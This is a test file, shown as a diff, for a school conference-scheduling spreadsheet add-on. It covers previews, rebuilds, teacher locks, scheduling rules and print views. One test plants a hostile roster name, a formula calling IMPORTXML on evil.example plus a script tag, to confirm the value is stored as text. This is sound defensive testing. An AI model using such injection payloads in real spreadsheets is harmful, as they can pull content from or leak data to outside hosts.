@@ -1,0 +1,195 @@
+/**
+ * Build schedule on the built bundle: a preview that writes nothing, then one write of every row;
+ * a teacher's locks and moved times kept on a rebuild; a rebuild with no change changes nothing;
+ * people's text stays text. Each written schedule is checked from the sheet itself, independently
+ * of the engine: capacity per teacher and time, one place per family at a time, a student once.
+ */
+import { scheduleCsvRows } from '../../demo/files';
+import { openSchool } from '../../preview/school';
+import type { JobProgress, Result, SchedulePreview } from '../../src/shared/api';
+
+type School = ReturnType<typeof openSchool>;
+
+function ok<T>(result: unknown): T {
+  const r = result as Result<T>;
+  if (!r.ok) throw new Error(`expected ok, got: ${r.error.message}`);
+  return r.value;
+}
+
+function run(school: School, job: string): JobProgress {
+  for (let i = 0; i < 20; i++) {
+    const p = ok<JobProgress>(school.bundle.callFromClient('runJob', [job]));
+    if (p.done) return p;
+  }
+  throw new Error(`${job} never finished`);
+}
+
+function scheduleSheet(school: School) {
+  return school.emulator.spreadsheet.sheetByName('Schedule')!;
+}
+
+/** schedule.csv as the demo writes it: one row per conference, dates and HH:MM in the school's zone. */
+function conferences(school: School) {
+  const [header, ...rows] = scheduleCsvRows(scheduleSheet(school), school.emulator.spreadsheet.timeZone);
+  return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])));
+}
+
+const minutes = (hhmm: string) => Number(hhmm.slice(0, 2)) * 60 + Number(hhmm.slice(3, 5));
+
+/** Hard rules read back from the sheet, not from the engine's bookkeeping. */
+function violations(school: School): string[] {
+  const errors: string[] = [];
+  const teachers = school.emulator.spreadsheet.sheetByName('Teachers')!.displayValues().slice(1);
+  const capacity = new Map<string, number>();
+  for (const t of teachers) capacity.set(String(t[0]), Math.max(capacity.get(String(t[0])) ?? 0, Number(t[6] || 1)));
+  const rows = conferences(school).filter((c) => c.Status !== 'cancelled');
+  const seen = new Set<string>();
+  for (const c of rows) {
+    for (const id of c['Student IDs']!.split(';')) {
+      if (seen.has(id)) errors.push(`student ${id} twice`);
+      seen.add(id);
+    }
+    if (minutes(c.End!) <= minutes(c.Start!)) errors.push(`${c['Conference ID']} ends before it starts`);
+  }
+  for (let i = 0; i < rows.length; i++) {
+    const a = rows[i]!;
+    let sameTeacherAtOnce = 1;
+    for (let j = 0; j < rows.length; j++) {
+      const b = rows[j]!;
+      if (i === j || a.Date !== b.Date) continue;
+      const overlap = minutes(a.Start!) < minutes(b.End!) && minutes(b.Start!) < minutes(a.End!);
+      if (overlap && a.Teacher === b.Teacher && minutes(b.Start!) <= minutes(a.Start!)) sameTeacherAtOnce++;
+      if (overlap && j > i && a['Family ID'] === b['Family ID']) errors.push(`family ${a['Family ID']} in two places at ${a.Date} ${a.Start}`);
+    }
+    if (sameTeacherAtOnce > (capacity.get(a.Teacher!) ?? 1)) errors.push(`${a.Teacher} hosts ${sameTeacherAtOnce} families at ${a.Date} ${a.Start}`);
+  }
+  return errors;
+}
+
+function freshSchool(students = 120): School {
+  const school = openSchool({ students });
+  run(school, 'setup');
+  return school;
+}
+
+describe('building the schedule', () => {
+  it('previews without writing anything, then writes every conference in one setValues', () => {
+    const school = freshSchool();
+    const before = JSON.stringify(scheduleSheet(school).rows);
+    const preview = ok<SchedulePreview>(school.bundle.callFromClient('previewSchedule', []));
+    expect(preview.students).toBe(120);
+    expect(preview.placed + preview.unplaced.length).toBe(120);
+    expect(JSON.stringify(scheduleSheet(school).rows)).toBe(before);
+    const writes = Object.keys(school.emulator.ws.reports.at(-1)!.callsByMethod).filter((m) => /\.(set|insert|append|delete)/.test(m));
+    expect(writes).toEqual([]);
+
+    const done = run(school, 'schedule');
+    expect(done.message).toContain(`Scheduled ${preview.placed} of 120 students in ${preview.conferences} conferences`);
+    const calls = school.emulator.ws.reports.at(-1)!.callsByMethod;
+    expect(calls['SpreadsheetApp.Range.setValues']).toBe(1);
+    expect(conferences(school)).toHaveLength(preview.conferences);
+    expect(violations(school)).toEqual([]);
+  });
+
+  it('gives every student it cannot place a reason that names the bottleneck', () => {
+    const school = openSchool({ students: 200, teachers: 3 });
+    run(school, 'setup');
+    const preview = ok<SchedulePreview>(school.bundle.callFromClient('previewSchedule', []));
+    expect(preview.unplaced.length).toBeGreaterThan(0);
+    for (const u of preview.unplaced) {
+      expect(u.reason).toMatch(/windows are full: \d+ conferences for \d+ places|availability|interpreter/);
+      expect(u.where?.sheet).toBe('Roster');
+    }
+  });
+
+  it('rebuilt with nothing changed, leaves the sheet exactly as it was', () => {
+    const school = freshSchool();
+    run(school, 'schedule');
+    const first = JSON.stringify(scheduleSheet(school).values());
+    run(school, 'schedule');
+    expect(JSON.stringify(scheduleSheet(school).values())).toBe(first);
+  });
+
+  it("keeps a teacher's locked row and moved time, and the notes people added, when rebuilt", () => {
+    const school = freshSchool();
+    run(school, 'schedule');
+    const sheet = scheduleSheet(school);
+    const header = sheet.values()[0]!.map(String);
+    const col = (h: string) => header.indexOf(h) + 1;
+    // The teacher moves the first conference 5 minutes later and locks it, and writes a note on another.
+    const moved = sheet.cell(2, col('Start'))!.v as Date;
+    sheet.put(2, col('Start'), { v: new Date(moved.getTime() + 5 * 60_000), nf: sheet.cell(2, col('Start'))!.nf });
+    sheet.put(2, col('End'), { v: new Date((sheet.cell(2, col('End'))!.v as Date).getTime() + 5 * 60_000), nf: sheet.cell(2, col('End'))!.nf });
+    sheet.put(2, col('Locked'), { v: true });
+    const lockedId = sheet.cell(2, col('Conference ID'))!.v;
+    sheet.put(3, col('Notes'), { v: 'Grandmother comes instead' });
+    const notedId = sheet.cell(3, col('Conference ID'))!.v;
+    const lockedRow = JSON.stringify(sheet.values()[1]);
+
+    run(school, 'schedule');
+    const after = sheet.values();
+    expect(JSON.stringify(after.find((r) => r[col('Conference ID') - 1] === lockedId))).toBe(lockedRow);
+    expect(after.find((r) => r[col('Conference ID') - 1] === notedId)?.[col('Notes') - 1]).toBe('Grandmother comes instead');
+    expect(violations(school)).toEqual([]);
+  });
+
+  it('keeps hostile names and number-like rooms as text, never a formula', () => {
+    const school = openSchool({ students: 30 });
+    const roster = school.emulator.spreadsheet.sheetByName('Roster')!;
+    roster.put(2, 2, { v: '=IMPORTXML("http://evil.example","//a"), <script>x</script>' });
+    run(school, 'setup');
+    run(school, 'schedule');
+    const sheet = scheduleSheet(school);
+    const header = sheet.values()[0]!.map(String);
+    const students = header.indexOf('Students') + 1;
+    const room = header.indexOf('Room') + 1;
+    const rows = sheet.values().slice(1);
+    const hostile = rows.findIndex((r) => String(r[students - 1]).includes('IMPORTXML'));
+    expect(hostile).toBeGreaterThanOrEqual(0);
+    const cell = sheet.cell(hostile + 2, students)!;
+    expect(cell.f).toBeUndefined();
+    expect(String(cell.v)).toContain('<script>x</script>');
+    // Rooms "101", "103"... read back as the text people typed, not the number 101 nor "'101".
+    for (const r of rows) expect(String(r[room - 1])).toMatch(/^(\d{3}|Video call)$/);
+    expect(rows.every((r) => typeof r[room - 1] === 'string')).toBe(true);
+  });
+});
+
+describe("the teachers' print views", () => {
+  it('makes one tab per teacher with their conferences in time order, and remakes them without duplicates', () => {
+    const school = freshSchool(80);
+    run(school, 'schedule');
+    const done = run(school, 'views');
+    const doc = school.emulator.spreadsheet;
+    const teachers = [...new Set(conferences(school).map((c) => c.Teacher!))].sort();
+    const tabs = doc.sheets.filter((s) => s.name.endsWith(' – schedule'));
+    expect(tabs.map((s) => s.name).sort()).toEqual(teachers.map((t) => `${t} – schedule`));
+    expect(done.message).toContain(`Made ${teachers.length} print views`);
+    const rivera = doc.sheetByName('Ms. Rivera – schedule')!;
+    const shown = rivera.displayValues();
+    expect(shown[0]).toEqual(['Date', 'Start', 'End', 'Room', 'Students', 'Family', 'Language', 'Interpreter', 'Status', 'Notes']);
+    const mine = conferences(school).filter((c) => c.Teacher === 'Ms. Rivera');
+    expect(shown.length - 1).toBe(mine.length);
+    const order = rivera.values().slice(1).map((r) => (r[0] as Date).getTime() * 1e6 + (r[1] as Date).getTime());
+    expect(order).toEqual([...order].sort((a, b) => a - b));
+
+    // A teacher renames her tab; rebuilt, it is found by ID and no second tab appears.
+    rivera.name = 'Rivera to print';
+    run(school, 'views');
+    expect(doc.sheets.filter((s) => s.name.startsWith('Ms. Rivera')).length).toBe(0);
+    expect(doc.sheetByName('Rivera to print')!.displayValues().length - 1).toBe(mine.length);
+    expect(doc.sheets.length).toBe(6 + teachers.length);
+  });
+
+  it('refuses to write over a tab of the same name that people made', () => {
+    const school = freshSchool(40);
+    run(school, 'schedule');
+    const teacher = conferences(school)[0]!.Teacher!;
+    const theirs = school.emulator.spreadsheet.insertSheet(`${teacher} – schedule`);
+    theirs.appendRow(['my own notes']);
+    const r = school.bundle.callFromClient('runJob', ['views']) as Result<JobProgress>;
+    expect(r.ok).toBe(false);
+    if (!r.ok) expect(r.error.message).toContain('is not one the add-on made');
+    expect(theirs.values()).toEqual([['my own notes']]);
+  });
+});
